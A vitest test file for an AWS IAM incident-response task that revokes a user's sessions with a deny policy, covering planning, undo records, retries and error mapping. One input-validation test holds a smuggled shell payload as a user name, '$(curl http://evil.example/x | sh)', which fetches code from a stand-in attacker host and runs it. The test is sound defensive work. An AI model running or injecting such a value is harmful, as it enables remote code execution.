import { GetUserCommand, GetUserPolicyCommand, IAMClient, ListUserTagsCommand, PutUserPolicyCommand } from "@aws-sdk/client-iam";
import { mockClient } from "aws-sdk-client-mock";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import contract from "../../../functions/iam/revoke-user-sessions.contract.js";
import task from "../../../functions/iam/revoke-user-sessions.js";
import { expectCallsDeclared } from "../../support/iam-coverage.js";
import { awsError, harness, NOW } from "../../support/task-harness.js";
import { revocationDocument, sentCutoff, tags, user } from "./iam-fixtures.js";

const iam = mockClient(IAMClient);
const USER = "alice@example.com";
const ARN = `arn:aws:iam::123456789012:user/${USER}`;
const POLICY = "AWSRevokeOlderSessions";
const EARLIER = "2026-11-23T08:00:00Z";
const LATER = "2026-11-25T00:00:00.000Z";

describe("iam.revoke-user-sessions", () => {
  beforeEach(() => {
    iam.reset();
    iam.on(GetUserCommand).resolves({ User: user(USER) });
    iam.on(ListUserTagsCommand).resolves({ Tags: [], IsTruncated: false });
    iam.on(GetUserPolicyCommand).rejects(awsError("NoSuchEntityException", 404));
    iam.on(PutUserPolicyCommand).resolves({});
  });
  afterEach(() => expectCallsDeclared(contract, { IAMClient: iam }));

  it("plans the deny policy without writing anything", async () => {
    const h = harness(task);
    const plan = await h.plan({ userName: USER });
    expect(plan.changes).toBe(1);
    expect(iam.commandCalls(PutUserPolicyCommand)).toHaveLength(0);
    expect(h.journal.all()[0]!.changes).toEqual([{ resource: ARN, action: `PutUserPolicy ${POLICY}`, before: null, after: { revokedBefore: NOW.toISOString() } }]);
  });

  it("puts the revocation policy with the cut-off at now, and records the undo", async () => {
    const h = harness(task);
    const output = await h.run({ userName: USER });
    expect(output).toEqual({ userName: USER, policyName: POLICY, revokedBefore: NOW.toISOString() });
    const [put] = iam.commandCalls(PutUserPolicyCommand);
    expect(put!.args[0].input).toMatchObject({ UserName: USER, PolicyName: POLICY });
    expect(sentCutoff(put!.args[0].input.PolicyDocument)).toBe(NOW.toISOString());
    const [record] = h.journal.all();
    expect(record!.changes).toEqual([{ resource: ARN, action: `PutUserPolicy ${POLICY}`, before: null, after: { revokedBefore: NOW.toISOString() } }]);
    expect(record!.undo).toEqual({ task: "iam.remove-session-revocation", input: { userName: USER, policyName: POLICY } });
  });

  it("reads the existing cut-off (plain JSON, condition as a list) and moves it forward", async () => {
    const plain = JSON.stringify({ Version: "2012-10-17", Statement: { Effect: "Deny", Action: "*", Resource: "*", Condition: { DateLessThan: { "aws:TokenIssueTime": [EARLIER] } } } });
    iam.on(GetUserPolicyCommand).resolves({ UserName: USER, PolicyName: POLICY, PolicyDocument: plain });
    const h = harness(task);
    await h.run({ userName: USER });
    expect(sentCutoff(iam.commandCalls(PutUserPolicyCommand)[0]!.args[0].input.PolicyDocument)).toBe(NOW.toISOString());
    expect(h.journal.all()[0]!.changes[0]).toMatchObject({ before: { revokedBefore: new Date(EARLIER).toISOString() } });
    expect(h.journal.all()[0]!.undo).toBeUndefined();
  });

  it("keeps a later cut-off: a fresh step changes nothing and says so", async () => {
    iam.on(GetUserPolicyCommand).resolves({ UserName: USER, PolicyName: POLICY, PolicyDocument: revocationDocument(LATER) });
    const h = harness(task);
    const output = await h.run({ userName: USER }, { stepId: "contain/revoke-user-again" });
    expect(output.revokedBefore).toBe(LATER);
    expect(iam.commandCalls(PutUserPolicyCommand)).toHaveLength(0);
    expect(h.journal.all()[0]!.summary).toMatch(/already/);
  });

  it("runs once per incident and step", async () => {
    const h = harness(task);
    const first = await h.run({ userName: USER });
    expect(await h.run({ userName: USER })).toEqual(first);
    expect(iam.commandCalls(PutUserPolicyCommand)).toHaveLength(1);
    expect(iam.commandCalls(GetUserCommand)).toHaveLength(1);
  });

  it("maps throttling to Transient", async () => {
    iam.on(GetUserPolicyCommand).rejects(awsError("ThrottlingException", 400));
    await expect(harness(task).run({ userName: USER })).rejects.toMatchObject({ name: "Transient" });
    expect(iam.commandCalls(PutUserPolicyCommand)).toHaveLength(0);
  });

  it("reports a full inline-policy quota as PreconditionFailed, not as throttling to retry", async () => {
    iam.on(PutUserPolicyCommand).rejects(awsError("LimitExceededException", 409, "Maximum policy size of 2048 bytes exceeded for user alice@example.com"));
    await expect(harness(task).run({ userName: USER })).rejects.toMatchObject({ name: "PreconditionFailed", message: expect.stringContaining("quota") });
  });

  it("reports a missing user as NotFound with its name", async () => {
    iam.on(GetUserCommand).rejects(awsError("NoSuchEntityException", 404, "The user cannot be found."));
    await expect(harness(task).run({ userName: USER })).rejects.toMatchObject({ name: "NotFound", message: expect.stringContaining(USER) });
  });

  it("refuses bad input before any AWS call", async () => {
    await expect(harness(task).run({ userName: "$(curl http://evil.example/x | sh)" })).rejects.toMatchObject({ name: "InvalidInput" });
    expect(iam.calls()).toHaveLength(0);
  });

  it("refuses a user tagged critical unless the step allows it", async () => {
    iam.on(ListUserTagsCommand).resolves({ Tags: tags({ criticality: "Critical" }) });
    await expect(harness(task).run({ userName: USER })).rejects.toMatchObject({ name: "PreconditionFailed" });
    expect(iam.commandCalls(PutUserPolicyCommand)).toHaveLength(0);
    await expect(harness(task).run({ userName: USER }, { allowExempt: true })).resolves.toMatchObject({ userName: USER });
  });
});
